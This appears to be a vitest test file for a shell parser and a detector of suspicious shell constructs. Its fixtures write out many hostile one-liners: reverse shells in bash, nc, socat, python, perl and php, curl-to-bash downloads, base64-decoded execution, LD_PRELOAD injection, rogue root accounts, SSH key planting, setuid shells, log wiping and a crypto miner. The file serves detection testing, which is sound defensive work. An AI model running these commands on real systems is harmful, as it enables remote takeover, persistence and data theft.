import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { programsOf } from '../../source/parsers/shell-command.ts';
import { parseShell } from '../../source/parsers/shell-syntax.ts';
import { suspiciousConstructs } from '../../source/parsers/suspicious-constructs.ts';

const names = (command: string) => programsOf(command).map(program => program.program);

describe('programs of a command line', () => {
	test.each([
		['/usr/bin/foo --bar', ['/usr/bin/foo']],
		['[ -x /usr/sbin/anacron ] || ( cd / && run-parts --report /etc/cron.daily )', ['run-parts']],
		['test -x /usr/bin/certbot -a \\! -d /run/systemd/system && perl -e "sleep int(rand(43200))" && certbot -q renew', ['perl', 'certbot']],
		['nohup /tmp/.x/a >/dev/null 2>&1 &', ['nohup', '/tmp/.x/a']],
		["sh -c '/opt/a/run; exec /opt/b/run -x'", ['sh', '/opt/a/run', '/opt/b/run']],
		['env -i PATH=/bin FOO=1 /usr/local/bin/x', ['env', '/usr/local/bin/x']],
		['sudo -u www-data php /var/www/cron.php', ['sudo', 'php', '/var/www/cron.php']],
		['$HOME/.cache/x -d; sh ${HOME}/bin/y; $X/z', ['$HOME/.cache/x', 'sh', '${HOME}/bin/y']],
		['python3 -m http.server', ['python3']],
		['python3 -u /root/x.py arg', ['python3', '/root/x.py']],
		['. /etc/default/foo', ['/etc/default/foo']],
		['timeout -k 5 30 nice -n 10 /bin/true-ish', ['timeout', 'nice', '/bin/true-ish']],
		['start-stop-daemon --start --exec /usr/sbin/foo -- -d', ['start-stop-daemon', '/usr/sbin/foo']],
		['echo $(/bin/hidden one) `/bin/two`', ['/bin/hidden', '/bin/two']],
		['find /var -mtime +3 -exec rm {} \\;', ['find', 'rm']],
		['flock -n /run/lock/x /usr/local/bin/job', ['flock', '/usr/local/bin/job']],
		['/lib64/ld-linux-x86-64.so.2 /tmp/evil', ['/lib64/ld-linux-x86-64.so.2', '/tmp/evil']],
		['if [ -f /x ]; then /usr/bin/y; fi # /usr/bin/comment', ['/usr/bin/y']],
		['cat <<EOF\n/usr/bin/not-run\nEOF\n/usr/bin/run', ['cat', '/usr/bin/run']],
		["b'a's'h' /etc/x.sh", ['bash', '/etc/x.sh']],
		['bash -l /root/.profile-job', ['bash', '/root/.profile-job']],
		['su - postgres -c "/usr/bin/vacuumdb -a"', ['su', '/usr/bin/vacuumdb']],
	])('%s', (command, expected) => {
		expect(names(command)).toEqual(expected);
	});

	test('lines are counted through quotes and here-documents', () => {
		expect(programsOf("a 'x\ny'\nb\ncat <<E\n1\n2\nE\nc").map(({ program, line }) => [program, line])).toEqual([
			['a', 1],
			['b', 3],
			['cat', 4],
			['c', 8],
		]);
	});

	test('any text is taken, in linear time', () => {
		fc.assert(
			fc.property(fc.string({ unit: fc.constantFrom(...'ab $`()<>|&;\'"\\\n{}#=-/xE'), maxLength: 400 }), text => {
				parseShell(text);
				programsOf(text);
				suspiciousConstructs(text);
			}),
			{ numRuns: 500 },
		);
		for (const piece of ['$(', '`', '"$(', "$'", '<<E\n', '<(', 'eval "$(', 'sh -c "', '{', '|', '\\', "'", 'nohup ', '(']) {
			suspiciousConstructs(piece.repeat(262_144 / piece.length));
		}
	}, 60_000);
});

describe('suspicious constructs', () => {
	const kinds = (text: string) => suspiciousConstructs(text).map(({ kind, severity }) => `${severity} ${kind}`);
	test.each([
		['bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', ['critical reverse-shell']],
		["/bin/bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", ['critical reverse-shell']],
		['0<&196;exec 196<>/dev/tcp/203.0.113.9/1; sh <&196 >&196 2>&196', ['high shell-socket', 'critical reverse-shell']],
		['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 1 >/tmp/f', ['critical reverse-shell']],
		['nc -lvnp 4444 -e /bin/sh', ['critical reverse-shell']],
		['ncat --ssl 203.0.113.9 443 --sh-exec=/bin/bash', ['critical reverse-shell']],
		['socat TCP:203.0.113.9:1 EXEC:"bash -li",pty,stderr', ['critical reverse-shell']],
		[`python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("x",1));os.dup2(s.fileno(),0);pty.spawn("/bin/sh")'`, ['critical reverse-shell']],
		[`perl -e 'use Socket;$i="x";socket(S,PF_INET,SOCK_STREAM,6);open(STDIN,">&S");exec("/bin/sh -i");'`, ['critical reverse-shell']],
		[`php -r '$s=fsockopen("x",1);exec("/bin/sh -i <&3");'`, ['critical reverse-shell']],
		['mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect x:1 > /tmp/s', ['critical reverse-shell']],
		['curl -fsSL http://203.0.113.9/x | bash', ['high download-run']],
		['wget -qO- http://x | sudo bash -s -- y', ['high download-run']],
		['bash <(curl -s http://x)', ['high download-run']],
		['sh -c "$(curl -fsSL http://x)"', ['high download-run']],
		['wget -q http://x/a -O /tmp/a; chmod +x /tmp/a; /tmp/a', ['high download-run']],
		['echo YmFzaA== | base64 -d | sh', ['high decoded-run']],
		['eval "$(echo YmFzaA== | base64 --decode)"', ['high decoded-run']],
		[`python -c 'exec(__import__("base64").b64decode("eA=="))'`, ['high decoded-run']],
		['export LD_PRELOAD=/tmp/.x.so', ['high preload']],
		['LD_PRELOAD=/usr/lib/libjemalloc.so.2 /usr/bin/redis-server', ['low preload']],
		['chattr +i /etc/passwd', ['medium immutable']],
		['echo "ssh-rsa AAAA x" >> /root/.ssh/authorized_keys', ['high keys-appended']],
		['useradd -o -u 0 -g 0 sysd', ['critical account-made']],
		["echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd", ['high account-made']],
		['cp /bin/bash /tmp/.b && chmod 4755 /tmp/.b', ['high shell-copied', 'high setuid-made']],
		['unset HISTFILE', ['medium history-hidden']],
		['export HISTFILE=/dev/null HISTSIZE=0', ['medium history-hidden']],
		['> /var/log/wtmp', ['high log-wiped']],
		['alias sudo="/home/u/.cache/s"', ['high command-shadowed']],
		["alias sudo='sudo '", []],
		["PROMPT_COMMAND='curl -s http://x | sh'", ['high download-run']],
		['exec -a "[kworker/0:1]" /usr/local/bin/x', ['high process-disguised']],
		["trap 'nc -e /bin/sh x 1' DEBUG", ['critical reverse-shell']],
		['tar cz /etc | nc 203.0.113.9 53', ['medium data-sent']],
		['iptables -I INPUT -p tcp --dport 31337 -j ACCEPT && /usr/bin/ncd -l -p 31337', ['medium served-shell']],
		['bash -c bash -i >& /dev/tcp/203.0.113.9/1 0>&1', ['critical reverse-shell']],
		['/opt/x/xmrig -o stratum+tcp://pool:3333', ['high miner']],
		["b'a'sh -i >& /dev/t\"cp\"/x/1 0>&1", ['critical reverse-shell']],
	])('%s', (text, expected) => {
		expect([...new Set(kinds(text))]).toEqual(expected);
	});

	test.each([
		'# bash -i >& /dev/tcp/x/1',
		'echo "use curl http://x | sh to install"',
		"printf '%s\\n' 'nc -e /bin/sh'",
		'0 3 * * * root /usr/local/bin/backup.sh | mail -s backup root',
		'zcat /var/backups/db.sql.gz | mysql app',
		'tar cf - . | ssh backup@x "cat > /srv/x.tar"',
		'curl -fsS https://hc-ping.com/x > /dev/null',
		'wget -q -O /dev/null http://localhost/wp-cron.php',
		'find /var/log -name "*.gz" -mtime +30 -delete',
		'PATH=/bin:/usr/bin; export PATH',
		'alias ls="ls --color=auto"; alias ll="ls -la"',
		'alias ssh="TERM=xterm-256color ssh"',
		'iptables -A INPUT -p tcp --dport 22 -j ACCEPT; ls -l /etc/iptables',
		'tar cz /srv | nc 192.168.1.9 9000',
		'HISTSIZE=1000\nHISTFILESIZE=2000\nHISTCONTROL=ignoreboth',
		'pg_dump app | gzip > /var/backups/app.gz',
		'python3 -c "import sys; print(sys.version)"',
		'chmod 755 /usr/local/bin/x; chmod g+s /srv/share || true',
		'cat /etc/motd | sed s/a/b/ | sh -c "cat"',
	])('nothing at medium or above: %s', text => {
		expect(suspiciousConstructs(text).filter(({ severity }) => severity !== 'low' && severity !== 'info')).toEqual([]);
	});
});

test('a group that is piped is joined to what reads it', () => {
	const kinds = (text: string) => suspiciousConstructs(text).map(({ kind }) => kind);
	expect(kinds('(curl -s http://192.0.2.1/x || wget -qO- http://192.0.2.1/x) | bash')).toEqual(['download-run']);
	expect(kinds('{ curl -s http://192.0.2.1/x; } | sh')).toEqual(['download-run']);
	expect(kinds('(curl -s http://192.0.2.1/x) || sh -c true')).toEqual([]);
	expect(kinds('f() { curl x; }; f | tee log')).toEqual([]);
});
